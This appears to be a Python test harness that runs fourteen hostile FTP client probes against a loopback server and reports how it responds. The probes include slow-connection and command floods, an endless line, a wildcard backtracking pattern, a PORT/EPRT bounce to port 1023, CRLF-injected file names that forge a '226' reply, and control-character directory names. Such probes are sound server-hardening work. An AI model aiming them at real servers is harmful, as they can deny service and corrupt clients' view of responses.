#!/usr/bin/env python3
"""Hostile clients against one FTP server on loopback; prints one `probe<TAB>outcome` line per attack.

Usage: hostile.py HOST PORT USER PASSWORD ROOT_DIR   (ROOT_DIR: the user's directory on disk)
Every probe is a real run: raw sockets, ftplib for the data side, openssl s_client for TLS.
"""
import ftplib
import os
import socket
import subprocess
import sys
import threading
import time

HOST, PORT, USER, PASSWORD, ROOT = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
CWD = os.environ.get("HOSTILE_CWD")  # a directory to work in after login (vsftpd's anonymous root is read-only)


class Control:
    """A raw control connection: replies read as they come, a hang-up observable."""

    def __init__(self, source="127.0.0.1", timeout=5.0):
        self.s = socket.socket()
        self.s.bind((source, 0))
        self.s.settimeout(timeout)
        self.s.connect((HOST, PORT))
        self.buf = b""
        self.greeting = self.reply()

    def send(self, data):
        self.s.sendall(data if isinstance(data, bytes) else data.encode())

    def line(self):
        while b"\n" not in self.buf:
            chunk = self.s.recv(65536)
            if not chunk:
                raise EOFError
            self.buf += chunk
        line, self.buf = self.buf.split(b"\n", 1)
        return line.rstrip(b"\r").decode("utf-8", "replace")

    def reply(self):
        while True:
            line = self.line()
            if len(line) >= 4 and line[3] == " ":
                return line

    def cmd(self, text):
        self.send(text + "\r\n")
        return self.reply()

    def login(self):
        self.cmd("USER " + USER)
        reply = self.cmd("PASS " + PASSWORD)
        assert reply.startswith("230"), reply
        if CWD:
            assert self.cmd("CWD " + CWD).startswith("250")
        return self

    def state(self, wait=2.0):
        """'closed' when the server hung up within `wait` seconds, else 'open'."""
        self.s.settimeout(wait)
        try:
            while True:
                if not self.s.recv(65536):
                    return "closed"
        except socket.timeout:
            return "open"
        except OSError:
            return "closed"

    def close(self):
        self.s.close()


def code(reply):
    return reply.split(" ", 1)[0] if reply else "-"


def short(reply):
    return reply[:60]


def openssl(*args):
    run = subprocess.run(
        ["openssl", "s_client", "-starttls", "ftp", "-connect", f"{HOST}:{PORT}", "-brief", *args],
        stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=20)
    out = run.stdout + run.stderr
    for alert in ("no application protocol", "unrecognized name", "handshake failure"):
        if alert in out:
            return f"alert {alert.replace(' ', '_')}"
    if "CONNECTION ESTABLISHED" in out:
        return "handshake completes, FTP session served"
    return "failed: " + out.strip().splitlines()[-1][:60] if out.strip() else "failed"


def probe_alpn():
    return openssl("-alpn", "http/1.1")


def probe_sni():
    return openssl("-servername", "www.other-site.example")


def probe_http_before_login():
    c = Control()
    c.send("GET / HTTP/1.1\r\nHost: ftp.example.org\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
    replies = []
    try:
        while len(replies) < 4:
            replies.append(code(c.reply()))
    except (EOFError, socket.timeout, OSError):
        pass
    return f"replies {','.join(replies) or 'none'}; connection {c.state()}"


def probe_http_after_login():
    c = Control().login()
    reply = c.cmd("GET /index.html HTTP/1.1")
    return f"{short(reply)}; connection {c.state()}"


def probe_unknown_before_login():
    c = Control()
    answered = 0
    try:
        for _ in range(20):
            c.cmd("EHLO attacker.example")
            answered += 1
    except (EOFError, OSError):
        pass
    return f"{answered} of 20 answered; connection {c.state(1.0)}"


def probe_port_privileged():
    victim = socket.socket()
    victim.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    victim.bind(("127.0.0.1", 1023))
    victim.listen(1)
    victim.settimeout(2.0)
    try:
        c = Control().login()
        port = c.cmd("PORT 127,0,0,1,3,255")
        eprt = c.cmd("EPRT |1|127.0.0.1|1023|")
        c.send("LIST\r\n")
        try:
            victim.accept()[0].close()
            connected = "a connection reached :1023"
        except socket.timeout:
            connected = "nothing connected to :1023"
        return f"PORT {code(port)}, EPRT {code(eprt)}; {connected}"
    finally:
        victim.close()


def names_with_controls():
    return sorted(repr(n) for n in os.listdir(ROOT) if any(ord(ch) < 0x20 or ord(ch) == 0x7F for ch in n))


def probe_control_chars():
    c = Control().login()
    codes = []
    for name in ("soh\x01dir", "cr\rdir", "nul\x00dir", "esc\x1bdir"):
        reply = c.cmd("MKD " + name)
        codes.append(code(reply))
        try:  # a bare CR may split the line: read what follows
            c.s.settimeout(0.5)
            c.reply()
        except (socket.timeout, EOFError, OSError):
            pass
        c.s.settimeout(5.0)
    made = names_with_controls()
    return f"MKD {'/'.join(codes)}; created {len(made)} such names {' '.join(made)[:40]}"


def probe_listing():
    with open(os.path.join(ROOT, "evil\r\n226 Transfer complete\r\nx.txt"), "w") as f:
        f.write("forged")
    try:
        ftp = ftplib.FTP()
        ftp.connect(HOST, PORT, timeout=10)
        ftp.login(USER, PASSWORD)
        if CWD:
            ftp.cwd(CWD)
        raw = []
        ftp.retrlines("NLST", raw.append)
        ftp.quit()
        forged = [line for line in raw if line.startswith("226 ")]
        return f"NLST {len(raw)} lines, {len(forged)} forged '226' line(s)" if forged else f"NLST {len(raw)} lines, name left out"
    finally:
        os.remove(os.path.join(ROOT, "evil\r\n226 Transfer complete\r\nx.txt"))


def probe_wildcard():
    """A wildcard whose stars could split one long name in more ways than a server can try."""
    path = os.path.join(ROOT, "a" * 200)
    open(path, "w").close()
    try:
        ftp = ftplib.FTP()
        ftp.connect(HOST, PORT, timeout=15)
        ftp.login(USER, PASSWORD)
        if CWD:
            ftp.cwd(CWD)
        start = time.time()
        try:
            answer = f"{len(ftp.nlst('*a' * 40 + '*b'))} names"
        except ftplib.error_perm as e:
            answer = f"reply {code(str(e))}"
        except socket.timeout:
            return "no answer in 15 s"
        took = time.time() - start
        noop = ftp.sendcmd("NOOP")
        ftp.quit()
        return f"NLST answered in {took * 1000:.0f} ms ({answer}); NOOP then {code(noop)}"
    finally:
        os.remove(path)


def probe_endless_line():
    c = Control().login()
    sent = 0
    chunk = b"x" * 65536
    c.send("NOOP ")
    deadline = time.time() + 10
    try:
        while sent < 16 * 1024 * 1024 and time.time() < deadline:
            c.s.settimeout(2.0)
            c.s.sendall(chunk)
            sent += len(chunk)
    except (OSError, socket.timeout):
        pass
    return f"{sent // 1024} KiB accepted; connection {c.state()}"


def probe_many_slow():
    conns, refused = [], 0
    for _ in range(80):
        try:
            c = Control(source="127.0.0.5", timeout=3.0)
            if c.greeting.startswith("220"):
                conns.append(c)
            else:
                refused += 1
        except (EOFError, OSError):
            refused += 1
    start = time.time()
    while time.time() - start < 8:
        for c in conns:
            try:
                c.send(b"N")
            except OSError:
                pass
        time.sleep(1)
    alive = sum(1 for c in conns if c.state(0.2) == "open")
    for c in conns:
        c.close()
    return f"80 from one IP: {len(conns)} greeted, {refused} refused; after 8 s of 1 byte/s: {alive} still open"


def probe_silent_data():
    ftp = ftplib.FTP()
    ftp.connect(HOST, PORT, timeout=30)
    ftp.login(USER, PASSWORD)
    if CWD:
        ftp.cwd(CWD)
    start = time.time()
    conn = ftp.transfercmd("STOR silent.bin")
    conn.settimeout(25)
    try:
        outcome = "data connection closed" if conn.recv(1) == b"" else "data sent?"
    except socket.timeout:
        outcome = "still open"
    except OSError:
        outcome = "data connection reset"
    elapsed = time.time() - start
    conn.close()
    try:
        final = ftp.voidresp()
    except ftplib.all_errors as e:
        final = str(e)
    return f"{outcome} after {elapsed:.0f} s, reply {code(final)}"


def probe_flood():
    c = Control().login()
    n = 2000
    start = time.time()
    sender = threading.Thread(target=lambda: c.send("NOOP\r\n" * n))
    sender.start()
    got = 0
    try:
        c.s.settimeout(30)
        while got < n:
            c.reply()
            got += 1
    except (EOFError, OSError):
        pass
    sender.join(5)
    elapsed = time.time() - start
    return f"{got} of {n} NOOPs answered in {elapsed:.1f} s ({got / elapsed:.0f}/s)"


def probe_never_reads():
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect((HOST, PORT))
    s.sendall(f"USER {USER}\r\nPASS {PASSWORD}\r\n".encode())
    if CWD:
        s.sendall(f"CWD {CWD}\r\n".encode())
    s.settimeout(0.5)
    sent = 0
    stalled = False
    start = time.time()
    burst = b"HELP\r\n" * 1000
    while time.time() - start < 10:
        try:
            s.sendall(burst)
            sent += len(burst)
        except socket.timeout:
            stalled = True  # neither the server nor the kernel buffers take more
        except OSError:
            return f"closed by the server after {sent // 1024} KiB of commands, {time.time() - start:.1f} s"
    s.close()
    how = "sending blocked (TCP backpressure)" if stalled else "still sending"
    return f"open after 10 s, {sent // 1024} KiB of commands sent, {how}"


PROBES = [
    ("TLS ALPN http/1.1 (openssl -starttls ftp)", probe_alpn),
    ("TLS SNI of another site", probe_sni),
    ("HTTP request + headers before login", probe_http_before_login),
    ("HTTP request line after login", probe_http_after_login),
    ("20 unknown commands before login", probe_unknown_before_login),
    ("PORT/EPRT to 127.0.0.1:1023", probe_port_privileged),
    ("MKD with SOH / CR / NUL / ESC", probe_control_chars),
    ("name with CRLF on disk, NLST", probe_listing),
    ("NLST *a*a...*b (40 stars), 200-char name", probe_wildcard),
    ("16 MiB line without end", probe_endless_line),
    ("80 slow connections (1 byte/s)", probe_many_slow),
    ("STOR, data connection never sends", probe_silent_data),
    ("2000 pipelined NOOPs after login", probe_flood),
    ("client never reads replies (HELP flood)", probe_never_reads),
]

only = os.environ.get("HOSTILE_ONLY")
for name, probe in PROBES:
    if only and only not in name:
        continue
    try:
        outcome = probe()
    except Exception as e:  # noqa: BLE001 - an attack that breaks the probe is an outcome too
        outcome = f"probe error: {type(e).__name__} {e}"[:80]
    print(f"{name}\t{outcome}", flush=True)
